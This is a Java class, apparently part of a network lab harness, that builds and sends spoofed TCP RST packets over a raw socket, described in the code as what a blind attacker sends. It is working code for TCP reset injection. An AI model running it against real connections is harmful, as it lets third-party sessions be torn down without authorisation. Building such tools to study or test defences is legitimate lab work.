package io.crossgate.lab.peer;

import java.net.InetSocketAddress;
import java.nio.ByteBuffer;

/** RST segments with somebody else's address, IPv4: what a blind attacker sends. */
final class Forger implements AutoCloseable {
    private static final int IP_LENGTH = 20;
    private static final int TCP_LENGTH = 20;
    private static final int TTL = 64;
    private static final int RST = 0x04;

    private final int socket = C.LIBRARY.socket(C.AF_INET, C.SOCK_RAW, C.IPPROTO_RAW);

    void reset(InetSocketAddress from, InetSocketAddress to, int seq) {
        ByteBuffer packet = ByteBuffer.allocate(IP_LENGTH + TCP_LENGTH);
        // The kernel fills in the total length, the identification and the header's checksum.
        packet.put((byte) 0x45).put((byte) 0).putShort((short) 0).putInt(0).put((byte) TTL).put((byte) C.IPPROTO_TCP).putShort((short) 0);
        packet.put(from.getAddress().getAddress()).put(to.getAddress().getAddress());
        packet.putShort((short) from.getPort()).putShort((short) to.getPort()).putInt(seq).putInt(0);
        packet.put((byte) (TCP_LENGTH / 4 << 4)).put((byte) RST).putShort((short) 0).putShort((short) 0).putShort((short) 0);
        packet.putShort(IP_LENGTH + 16, checksum(packet));
        byte[] address = C.address(to.getAddress(), 0);
        C.LIBRARY.sendto(socket, packet.array(), packet.capacity(), 0, address, address.length);
    }

    private static short checksum(ByteBuffer packet) {
        long sum = C.IPPROTO_TCP + TCP_LENGTH; // with the two addresses, the pseudo-header
        for (int at = IP_LENGTH - 8; at < packet.capacity(); at += 2) {
            sum += packet.getShort(at) & 0xffff;
        }
        while (sum >>> 16 != 0) {
            sum = (sum & 0xffff) + (sum >>> 16);
        }
        return (short) ~sum;
    }

    @Override
    public void close() {
        C.LIBRARY.close(socket);
    }
}
